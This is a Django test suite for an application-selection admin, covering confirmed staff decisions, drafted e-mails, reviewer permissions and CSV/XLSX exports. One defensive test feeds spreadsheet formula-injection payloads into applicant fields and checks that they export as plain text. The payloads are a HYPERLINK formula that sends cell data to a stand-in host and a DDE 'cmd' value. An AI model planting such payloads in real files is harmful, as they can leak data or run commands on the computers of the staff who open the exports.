"""Staff decisions: confirmation first, refusals explained, e-mails drafted never sent."""

import csv
import io
import re

import pytest
from django.contrib.auth.models import Group, User
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from accelerator.tests.staff import login_staff
from seasons import outbox
from seasons.models import (
    EmailKind,
    EmailStatus,
    OutboundEmail,
    Review,
    Submission,
    SubmissionStatus,
)
from seasons.outbox import send_queued_emails
from seasons.selection import decisions
from seasons.selection.roles import PROGRAM_MANAGER, REVIEWER
from seasons.tests.factories import ReferentFactory, ReviewFactory, SubmissionFactory

pytestmark = pytest.mark.django_db

S = SubmissionStatus
CHANGELIST = "admin:seasons_submission_changelist"


def transition_of(submission):
    """The submission's one change of status: (from, to, reason, who)."""
    log = submission.transitions.get()
    return (log.from_status, log.to_status, log.reason, log.actor)


@pytest.fixture
def manager(client):
    user = User.objects.create_user("responsable", is_staff=True)
    user.groups.add(Group.objects.get(name=PROGRAM_MANAGER))
    login_staff(client, user)
    return User.objects.get(pk=user.pk)


def act(client, action, submissions, **extra):
    data = {"action": action, "_selected_action": [s.pk for s in submissions], **extra}
    return client.post(reverse(CHANGELIST), data)


def test_decision_first_shows_what_will_change_and_what_is_refused(client, manager):
    ready = SubmissionFactory(status=S.IN_REVIEW, organisation_name="Prête")
    too_early = SubmissionFactory(status=S.SUBMITTED, organisation_name="Trop tôt")
    page = act(client, "shortlist", [ready, too_early])
    html = page.content.decode()
    assert page.status_code == 200
    allowed = html.split('id="allowed"')[1].split("</ul>")[0]
    refused = html.split('id="refused"')[1].split("</ul>")[0]
    assert "Prête" in allowed and "Trop tôt" not in allowed
    assert "Trop tôt" in refused
    assert "Une candidature « déposée » ne peut pas devenir « présélectionnée »." in refused
    # Nothing changed yet.
    assert list(Submission.objects.order_by("pk").values_list("status", flat=True)) == [
        S.IN_REVIEW,
        S.SUBMITTED,
    ]


def test_decision_that_no_selected_application_can_take_says_so_and_offers_no_confirm(
    client, manager
):
    too_early = SubmissionFactory(status=S.SUBMITTED, organisation_name="Trop tôt")
    html = act(client, "shortlist", [too_early]).content.decode()
    assert "<h2>Aucune des candidatures choisies ne peut devenir « présélectionnée ».</h2>" in html
    assert "Cette candidature deviendra" not in html
    assert "Aucune.</p>" not in html
    assert 'name="confirm"' not in html


def test_confirmed_decision_changes_allowed_ones_and_drafts_emails_without_sending(client, manager):
    ready = SubmissionFactory(status=S.IN_REVIEW, contact_email="porteur@example.org")
    too_early = SubmissionFactory(status=S.SUBMITTED)
    response = act(
        client,
        "shortlist",
        [ready, too_early],
        confirm="1",
        reason="Dossier solide",
        draft_emails="on",
    )
    assert response.status_code == 302
    ready.refresh_from_db()
    assert ready.status == S.SHORTLISTED
    assert Submission.objects.get(pk=too_early.pk).status == S.SUBMITTED
    assert transition_of(ready) == (S.IN_REVIEW, S.SHORTLISTED, "Dossier solide", manager)
    email = OutboundEmail.objects.get()
    assert (email.kind, email.status, email.to) == (
        EmailKind.DECISION,
        EmailStatus.DRAFT,
        "porteur@example.org",
    )
    assert email.subject == f"Votre candidature {ready.reference} est présélectionnée"
    assert ready.access_key not in email.body
    assert f"Suivre votre candidature : [[private-link:status:{ready.pk}]]" in email.body
    assert mail.outbox == []


def test_decision_without_emails_is_possible(client, manager):
    ready = SubmissionFactory(status=S.IN_REVIEW)
    act(client, "reject", [ready], confirm="1")
    assert Submission.objects.get(pk=ready.pk).status == S.REJECTED
    assert OutboundEmail.objects.count() == 0


def test_drafted_emails_are_sent_once_whatever_the_clicks(client, manager):
    submissions = SubmissionFactory.create_batch(3, status=S.SHORTLISTED)
    decisions.decide(submissions, S.WAITLISTED, user=manager)
    assert OutboundEmail.objects.filter(status=EmailStatus.DRAFT).count() == 3
    assert mail.outbox == []
    drafts = OutboundEmail.objects.all()
    assert outbox.release_emails(drafts) == (3, 0, 0)
    assert outbox.release_emails(drafts) == (0, 0, 0)
    assert len(mail.outbox) == 3
    assert set(OutboundEmail.objects.values_list("status", flat=True)) == {EmailStatus.SENT}


def test_staff_edit_a_drafted_email_before_sending_it(client, manager):
    submission = SubmissionFactory(status=S.SHORTLISTED)
    decisions.decide([submission], S.REJECTED, user=manager)
    email = OutboundEmail.objects.get()
    url = reverse("admin:seasons_outboundemail_change", args=[email.pk])
    client.post(url, {"subject": "Objet revu", "body": "Texte revu par l’équipe"})
    client.post(
        reverse("admin:seasons_outboundemail_changelist"),
        {"action": "send_selected", "_selected_action": [email.pk]},
    )
    assert [(m.subject, m.body) for m in mail.outbox] == [("Objet revu", "Texte revu par l’équipe")]


def test_the_decision_email_follows_the_applicants_language(manager):
    submission = SubmissionFactory(status=S.SHORTLISTED, language="en")
    decisions.decide([submission], S.SELECTED, user=manager)
    assert (
        OutboundEmail.objects.get().subject
        == f"Your application {submission.reference} is selected"
    )


def test_a_reviewer_cannot_decide_even_by_posting_the_action(client):
    reviewer = User.objects.create_user("evaluatrice", is_staff=True)
    reviewer.groups.add(Group.objects.get(name=REVIEWER))
    submission = SubmissionFactory(status=S.IN_REVIEW)
    ReviewFactory(submission=submission, reviewer=reviewer)
    login_staff(client, reviewer)
    act(client, "shortlist", [submission], confirm="1")
    assert Submission.objects.get(pk=submission.pk).status == S.IN_REVIEW


def exported_rows(client, file_format, query=""):
    response = client.get(reverse("admin:seasons_submission_export", args=[file_format]) + query)
    assert response.status_code == 200
    if file_format == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[("" if v is None else v) for v in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_holds_the_filtered_applications_with_answers_and_figures(
    client, manager, file_format
):
    kept = SubmissionFactory(status=S.IN_REVIEW, organisation_name="Gardée", contributors_count=12)
    ReferentFactory(
        submission=kept,
        first_name="Camille",
        last_name="Durand",
        email="c@example.org",
        phone="0102",
    )
    SubmissionFactory(status=S.REJECTED, organisation_name="Filtrée")
    rows = exported_rows(client, file_format, "?status__exact=in_review")
    header, *data = rows
    assert header[:4] == ["Référence", "Appel", "Statut", "Déposée le"]
    assert header[-10:-7] == ["Évaluations faites / attribuées", "Note pondérée", "Note normalisée"]
    assert len(data) == 1
    row = dict(zip(header, data[0], strict=True))
    assert row["Référence"] == kept.reference
    assert row["Statut"] == "en instruction"
    assert row["Nom de la structure"] == "Gardée"
    assert str(row["Nombre approximatif de contributeurs"]) == "12"
    assert row["Référent 1"] == "Camille Durand <c@example.org> 0102"
    assert row["Évaluations faites / attribuées"] == "0/0"


def test_decision_changelist_query_count_does_not_grow(client, manager):
    def count():
        with CaptureQueriesContext(connection) as queries:
            assert client.get(reverse(CHANGELIST)).status_code == 200
        return len(queries)

    def rows(n):
        for submission in SubmissionFactory.create_batch(n):
            ReviewFactory(submission=submission)

    # 3 for the admin's session, user and OTP device, then counts, rows, their reviews and
    # the filters' choices (the date hierarchy reads the rows: all of them are on the page)
    rows(1)
    assert count() == 9
    rows(49)
    assert count() == 9


def test_review_changelist_query_count_does_not_grow(client, manager):
    def count():
        with CaptureQueriesContext(connection) as queries:
            assert client.get(reverse("admin:seasons_review_changelist")).status_code == 200
        return len(queries)

    ReviewFactory()
    # 3 for the admin's session, user and OTP device; 1 for the calls the reader has
    # reviews in (the links to their progress)
    assert count() == 10
    ReviewFactory.create_batch(49)
    assert count() == 10


def test_call_summary_counts_statuses_and_the_funnel(client, manager):
    from seasons.tests.factories import CallFactory

    call = CallFactory()
    for status, n in [(S.SUBMITTED, 4), (S.IN_REVIEW, 3), (S.SHORTLISTED, 2), (S.SELECTED, 1)]:
        SubmissionFactory.create_batch(n, call=call, status=status)
    SubmissionFactory(call=call, status=S.DRAFT, reference="", submitted_at=None)
    rejected_late = SubmissionFactory(call=call, status=S.SHORTLISTED)
    decisions.decide([rejected_late], S.REJECTED, user=manager, draft_emails=False)
    SubmissionFactory(call=call, status=S.REJECTED)  # screened out, no history
    html = client.get(reverse("admin:seasons_call_summary", args=[call.pk])).content.decode()
    funnel = html.split('id="funnel"')[1].split("</table>")[0]
    rows = [row.split("<td>")[1].split("</td>")[0] for row in funnel.split("<tr>")[2:]]
    # 12 sent; 7 reached review (3 + 2 + 1 + the late rejection); 4 shortlisted; 1 selected.
    assert rows == ["12", "7", "4", "1"]
    assert 'value="58"' in funnel
    counts = html.split('id="counts"')[1].split("</table>")[0]
    assert '<th scope="row">Brouillon</th><td>1</td>' in counts
    assert '<th scope="row">Non retenue</th><td>2</td>' in counts


def test_reviewers_are_assigned_in_bulk_from_the_changelist(client, manager):
    reviewers = []
    for username in ["evaluatrice", "evaluateur"]:
        user = User.objects.create_user(username, is_staff=True)
        user.groups.add(Group.objects.get(name=REVIEWER))
        reviewers.append(user)
    not_a_reviewer = User.objects.create_user("autre", is_staff=True)
    submissions = SubmissionFactory.create_batch(3, status=S.IN_REVIEW)
    page = act(client, "assign_reviewers", submissions).content.decode()
    assert f'value="{reviewers[0].pk}"' in page
    assert f'value="{not_a_reviewer.pk}"' not in page
    response = act(
        client,
        "assign_reviewers",
        submissions,
        confirm="1",
        reviewers=[r.pk for r in reviewers],
    )
    assert response.status_code == 302
    assert sorted(Review.objects.values_list("submission__pk", "reviewer__username")) == sorted(
        (s.pk, r.username) for s in submissions for r in reviewers
    )


HYPERLINK = '=HYPERLINK("http://evil.invalid/?x="&A1,"Cliquez ici")'


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_shows_formulas_typed_by_applicants_as_text(client, manager, file_format):
    """Issue 12: an organisation named as a formula came out as a live formula."""
    submission = SubmissionFactory(
        status=S.IN_REVIEW,
        organisation_name=HYPERLINK,
        project_name="+33 cmd|' /C calc'!A0",
        description="-2+3",
        problem="@SUM(1+1)",
        main_impact="\t=1+1",
        other_actors="\r=1+1",
        goal_1="Une phrase = ordinaire",
    )
    ReferentFactory(submission=submission, first_name="=Camille", last_name="D", phone="")
    header, data = exported_rows(client, file_format)
    row = dict(zip(header, data, strict=True))
    assert row["Nom de la structure"] == "'" + HYPERLINK
    assert row["Nom du projet"] == "'+33 cmd|' /C calc'!A0"
    assert row["Description courte"] == "'-2+3"
    assert row["Problème traité"] == "'@SUM(1+1)"
    assert row["Principal impact visé"] == "'\t=1+1"
    # The XML of an XLSX reads a carriage return back as a line feed.
    assert row["Autres acteurs sur le même problème"] in ("'\r=1+1", "'\n=1+1")
    assert row["Premier objectif"] == "Une phrase = ordinaire"
    assert row["Référent 1"] == f"'=Camille D <{submission.referents.get().email}>"


def test_export_xlsx_writes_every_text_cell_as_text(client, manager):
    SubmissionFactory(status=S.IN_REVIEW, organisation_name=HYPERLINK)
    response = client.get(reverse("admin:seasons_submission_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    types = {cell.data_type for row in sheet.iter_rows(min_row=1) for cell in row}
    assert "f" not in types
    name_column = [cell.value for cell in sheet[1]].index("Nom de la structure")
    cell = sheet.cell(row=2, column=name_column + 1)
    assert (cell.data_type, cell.value) == ("s", "'" + HYPERLINK)


def test_export_xlsx_leaves_out_control_characters_xml_cannot_hold(client, manager):
    SubmissionFactory(status=S.IN_REVIEW, organisation_name="Asso\x01ciation\x1b")
    header, data = exported_rows(client, "xlsx")
    assert dict(zip(header, data, strict=True))["Nom de la structure"] == "Association"


def test_a_new_decision_supersedes_the_unsent_email_of_the_earlier_one(manager):
    submission = SubmissionFactory(status=S.IN_REVIEW, contact_email="porteur@example.org")
    decisions.decide([submission], S.SHORTLISTED, user=manager)
    decisions.decide([submission], S.WAITLISTED, user=manager)
    assert outbox.release_emails(OutboundEmail.objects.all()) == (1, 0, 0)
    assert outbox.release_emails(OutboundEmail.objects.all()) == (0, 0, 0)
    assert [(m.to[0], m.subject) for m in mail.outbox] == [
        ("porteur@example.org", f"Votre candidature {submission.reference} est sur liste d’attente")
    ]
    assert list(OutboundEmail.objects.order_by("pk").values_list("status", flat=True)) == [
        EmailStatus.SUPERSEDED,
        EmailStatus.SENT,
    ]


def test_a_decision_without_email_still_supersedes_the_unsent_one(manager, settings):
    submission = SubmissionFactory(status=S.IN_REVIEW)
    decisions.decide([submission], S.SHORTLISTED, user=manager)
    settings.EMAIL_SEND_AT_ONCE = False
    outbox.release_emails(OutboundEmail.objects.all())  # queued, not sent yet
    decisions.decide([submission], S.REJECTED, user=manager, draft_emails=False)
    assert send_queued_emails() == (0, 0)
    assert mail.outbox == []
    assert OutboundEmail.objects.get().status == EmailStatus.SUPERSEDED


def test_admin_call_filter_sorts_the_french_way(admin_client):
    for title in ["Sport pour tous", "Écoles ouvertes", "Alimentation durable"]:
        SubmissionFactory(call__title=title)
    html = admin_client.get(reverse(CHANGELIST)).content.decode()
    found = re.findall(r'call__id__exact=\d+"[^>]*>([^<]+)</a>', html)
    assert found == ["Alimentation durable", "Écoles ouvertes", "Sport pour tous"]


def test_decision_message_counts_in_words_without_plural_marks(client, manager):
    one = SubmissionFactory(status=S.IN_REVIEW)
    act(client, "shortlist", [one], confirm="1", draft_emails="on")
    two = [SubmissionFactory(status=S.IN_REVIEW), SubmissionFactory(status=S.IN_REVIEW)]
    act(client, "reject", two, confirm="1")
    page = client.get(reverse(CHANGELIST)).content.decode()
    messages = re.findall(r'<li class="success">([^<]+)</li>', page)
    assert messages == [
        "1 candidature modifiée, 1 courriel préparé dans la boîte d’envoi.",
        "2 candidatures modifiées, 0 courriel préparé dans la boîte d’envoi.",
    ]
